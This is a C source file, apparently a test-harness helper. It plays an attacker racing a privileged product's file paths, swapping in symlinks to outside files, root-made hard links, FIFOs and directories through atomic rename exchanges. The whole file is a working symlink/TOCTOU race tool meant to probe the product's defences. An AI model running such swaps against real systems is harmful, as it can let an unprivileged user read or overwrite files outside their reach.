/* An attacker who swaps what stands at a path and a lure, over and over.
 *
 *     swapper COUNT UID BASE RELATIVE... -- OUTSIDE...
 *
 * BASE/RELATIVE is what the product uses. A lure stands beside it: a symbolic link to OUTSIDE/RELATIVE, one to a name there
 * that does not exist, a hard link of a file there, a FIFO, a file, a directory. Links that only root may make are made
 * first; then this becomes UID for good, says "ready", waits for a byte, and begins. At the end it says how often it swapped.
 * Where nothing stands at the path, the lure is planted. */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define PATHS_MAX 64
#define PAUSE_US 6000 /* within what one opening of a path takes, and sometimes within a whole sign-in */
#define LONG_PAUSE_US 50000
#define FRESH "fresh-of-the-swapper"

struct target {
	int  dir; /* its directory as it stood at the beginning, whatever others swap meanwhile */
	char *name, *lure, *hard;
	const char *relative;
};

static struct target targets[PATHS_MAX];
static const char *outsides[PATHS_MAX];
static int target_count, outside_count;
static uint64_t seed = 88172645463325252ULL;

static unsigned draw(unsigned below)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return (unsigned)(seed % below);
}

static void rest(void)
{
	if (draw(4) != 0)
		usleep(draw(draw(16) != 0 ? PAUSE_US : LONG_PAUSE_US));
}

static bool add_target(const char *base, const char *relative)
{
	struct target *target = &targets[target_count++];
	char *path, *slash;

	if (asprintf(&path, "%s/%s", base, relative) < 0)
		return false;
	slash = strrchr(path, '/');
	*slash = '\0';
	target->dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	target->relative = relative;
	target->name = slash + 1;
	return target->dir >= 0 && asprintf(&target->lure, ".lure-%s-%d", target->name, target_count) > 0 &&
	       asprintf(&target->hard, ".hard-%s-%d", target->name, target_count) > 0;
}

static int move(const struct target *target, const char *from, const char *to)
{
	return renameat(target->dir, from, target->dir, to);
}

static int exchange(const struct target *target)
{
	return renameat2(target->dir, target->name, target->dir, target->lure, RENAME_EXCHANGE);
}

static void outside_path(const struct target *target, char ret[PATH_MAX])
{
	snprintf(ret, PATH_MAX, "%s/%s", outsides[draw((unsigned)outside_count)], target->relative);
}

static void make_hard_links(void)
{
	char outside[PATH_MAX];
	int i;

	for (i = 0; i < target_count; i++) {
		outside_path(&targets[i], outside);
		if (linkat(AT_FDCWD, outside, targets[i].dir, targets[i].hard, 0) != 0)
			targets[i].hard[0] = '\0';
	}
}

static bool make_lure(struct target *target)
{
	char outside[PATH_MAX];
	int fd;

	outside_path(target, outside);
	switch (draw(8)) {
	default:
		return symlinkat(outside, target->dir, target->lure) == 0;
	case 1:
		snprintf(outside, sizeof(outside), "%s/%s", outsides[draw((unsigned)outside_count)], FRESH);
		return symlinkat(outside, target->dir, target->lure) == 0;
	case 2:
	case 3:
		return linkat(AT_FDCWD, outside, target->dir, target->lure, 0) == 0 ||
		       (target->hard[0] != '\0' && move(target, target->hard, target->lure) == 0);
	case 4:
		return mkfifoat(target->dir, target->lure, 0600) == 0;
	case 5:
		if (draw(2) != 0)
			return mkdirat(target->dir, target->lure, 0700) == 0;
		fd = openat(target->dir, target->lure, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
		return fd >= 0 && close(fd) == 0;
	}
}

/* The lure leaves; a hard link that only root could make is kept. */
static void take_away(struct target *target)
{
	static unsigned filled;
	char aside[NAME_MAX];
	struct stat st;

	if (fstatat(target->dir, target->lure, &st, AT_SYMLINK_NOFOLLOW) != 0)
		return;
	if (S_ISREG(st.st_mode) && st.st_nlink > 1 && st.st_uid != geteuid() && move(target, target->lure, target->hard) == 0)
		return;
	if (unlinkat(target->dir, target->lure, 0) == 0 || unlinkat(target->dir, target->lure, AT_REMOVEDIR) == 0)
		return;
	snprintf(aside, sizeof(aside), "%s-%u", target->lure, filled++);
	move(target, target->lure, aside);
}

/* One swap there and one back; how many succeeded. */
static int swap(struct target *target)
{
	int done = 0;

	take_away(target);
	if (!make_lure(target))
		return 0;
	if (exchange(target) == 0) {
		done++;
		rest();
		/* If somebody replaced the lure meanwhile, they have the newer file: it goes, the old one comes back. */
		if (exchange(target) == 0 || move(target, target->lure, target->name) == 0)
			done++;
	} else if (errno == ENOENT && move(target, target->lure, target->name) == 0) {
		done++;
		rest();
		if (move(target, target->name, target->lure) == 0)
			done++;
	}
	take_away(target);
	return done;
}

int main(int argc, char **argv)
{
	long wanted = argc > 4 ? strtol(argv[1], NULL, 10) : 0, done = 0, i;
	uid_t uid = argc > 4 ? (uid_t)strtol(argv[2], NULL, 10) : 0;
	char go;

	if (wanted <= 0)
		return 64;
	for (i = 4; i < argc && strcmp(argv[i], "--") != 0 && target_count < PATHS_MAX; i++)
		if (!add_target(argv[3], argv[i]))
			return 1;
	for (i++; i < argc && outside_count < PATHS_MAX; i++)
		outsides[outside_count++] = argv[i];
	if (target_count == 0 || outside_count == 0)
		return 64;
	seed += (uint64_t)getpid() * 2654435761U;
	make_hard_links();
	if (geteuid() == 0 && (setgroups(0, NULL) != 0 || setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0))
		return 1;
	if (write(STDOUT_FILENO, "ready\n", 6) != 6 || read(STDIN_FILENO, &go, 1) != 1)
		return 1;
	while (done < wanted) {
		done += swap(&targets[draw((unsigned)target_count)]);
		rest();
	}
	for (i = 0; i < target_count; i++)
		if (targets[i].hard[0] != '\0')
			unlinkat(targets[i].dir, targets[i].hard, 0);
	printf("%ld\n", done);
	return 0;
}
